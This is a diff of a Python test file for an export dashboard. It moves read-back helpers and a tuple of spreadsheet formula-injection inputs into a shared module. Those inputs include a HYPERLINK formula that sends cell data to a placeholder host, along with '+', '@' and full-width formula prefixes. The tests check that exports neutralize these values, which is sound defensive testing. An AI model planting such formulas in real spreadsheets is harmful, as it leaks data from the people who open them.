@@ -5,18 +5,15 @@ Store-touching tests run on SQLite and PostgreSQL (the `engine` fixture).
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
 import io
 import json
 import zipfile
-from pathlib import Path
 
 import openpyxl
 import pandas as pd
 import pytest
 from openpyxl.utils.escape import unescape
-from python_calamine import CalamineWorkbook
 
 from aic_dash import labels
 from aic_dash.errors import AicError
@@ -36,39 +33,23 @@ from aic_dash.store.audit import audit_log, current_user, record
 from aic_dash.store.imports import import_path
 from aic_dash.store.queries import Filters, load_fields
 from tests.conftest import EXPORTS
+from tests.read_back import (
+    BOM,
+    HOSTILE_PROJECTS,
+    read_csv_back,
+    read_excel_csv_back,
+    with_hostile_projects,
+    write_export,
+    xlsx_sheets_calamine,
+    xlsx_sheets_openpyxl,
+)
 
 PARIS = "Europe/Paris"
-BOM = b"\xef\xbb\xbf"
-HOSTILE_PROJECTS = (
-    '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez ici")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1)",
-    "＝1+1",
-    "<r><t>balise</t></r>",
-)
 # Control characters do not survive an import (it cleans them), so these go through render() directly.
 HOSTILE_TEXTS = (*HOSTILE_PROJECTS, "\tfoo", "\rfoo", "\nfoo", "\x00foo", "＋1", "－1", "＠SUM(A1)")
 
 
 # --- fixtures and helpers -------------------------------------------------------------------------
-
-
-def write_export(path: Path, edit=None) -> Path:
-    """ds_standard.csv, each data row passed through edit(row, header) -> row (labels: first match)."""
-    with open(EXPORTS / "ds_standard.csv", encoding="utf-8", newline="") as f:
-        header, *rows = list(csv.reader(f))
-    if edit:
-        rows = [edit(list(row), header) for row in rows]
-    with open(path, "w", encoding="utf-8", newline="") as f:
-        csv.writer(f).writerows([header, *rows])
-    return path
-
-
-def with_hostile_projects(row: list[str], header: list[str]) -> list[str]:
-    i = int(row[0]) - 11000001
-    row[header.index("Nom du projet")] = HOSTILE_PROJECTS[i % len(HOSTILE_PROJECTS)]
-    return row
 
 
 @pytest.fixture
@@ -81,26 +62,6 @@ def store(engine, settings):
 
 def neutralized(value: str) -> str:
     return "'" + value
-
-
-def read_csv_back(data: bytes) -> pd.DataFrame:
-    return pd.read_csv(io.BytesIO(data), dtype="str", keep_default_na=False, na_values=[""])
-
-
-def read_excel_csv_back(data: bytes) -> pd.DataFrame:
-    return pd.read_csv(
-        io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig", keep_default_na=False, na_values=[""]
-    )
-
-
-def xlsx_sheets_openpyxl(data: bytes) -> dict[str, list[list]]:
-    book = openpyxl.load_workbook(io.BytesIO(data))
-    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets}
-
-
-def xlsx_sheets_calamine(data: bytes) -> dict[str, list[list]]:
-    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
-    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
 
 
 def paris_wall_clock(series: pd.Series) -> list:
